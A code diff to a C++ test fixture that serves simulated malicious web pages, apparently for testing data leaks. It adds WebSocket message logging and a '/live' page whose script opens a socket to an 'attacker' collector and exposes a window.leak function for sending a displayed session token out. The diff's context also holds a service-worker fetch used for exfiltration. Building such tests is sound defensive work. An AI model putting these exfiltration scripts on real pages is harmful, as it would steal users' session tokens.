@@ -74,9 +74,13 @@ InjectionSites::InjectionSites() : m(std::make_unique<Impl>()) {
         }
         return res;
       },
-      [self](const net::HttpRequest& r, std::shared_ptr<net::WsPeer>, net::WsHandlers&) -> std::optional<net::HttpResponse> {
+      [self](const net::HttpRequest& r, std::shared_ptr<net::WsPeer>, net::WsHandlers& handlers) -> std::optional<net::HttpResponse> {
         std::lock_guard lock(self->mutex);
         self->collected.push_back("WEBSOCKET-OPEN " + r.target);
+        handlers.on_message = [self, target = r.target](std::string text) {
+          std::lock_guard lock(self->mutex);
+          self->collected.push_back("WEBSOCKET-MESSAGE " + target + " " + text.substr(0, 200));
+        };
         return std::nullopt;
       }));
 
@@ -144,6 +148,12 @@ InjectionSites::InjectionSites() : m(std::make_unique<Impl>()) {
                  " if (open.length === 0) break; await new Promise((r) => setTimeout(r, 50)); }"
                  " await fetch(e.data.send, {mode: 'no-cors'}).catch(() => 0);"
                  " await fetch('/sw-sent', {mode: 'no-cors'}).catch(() => 0); })()); });";
+    } else if (p == "/live") {
+      // A page that keeps a socket to the attacker open from its first moment, and sends on it
+      // whatever it is handed later (window.leak).
+      res.body = page("Live", "", "<h1>Live</h1><p>Your session token: <code id=token>" + std::string(kToken) + "</code></p>"
+                      "<script>const ws = new WebSocket('ws" + collector_url.substr(4) + "/live-ws'); "
+                      "window.leak = (s) => { try { ws.send(s); } catch (e) {} };</script>");
     } else if (p == "/sw-sent") {
       res.body = "ok";
     } else if (p == "/many") {
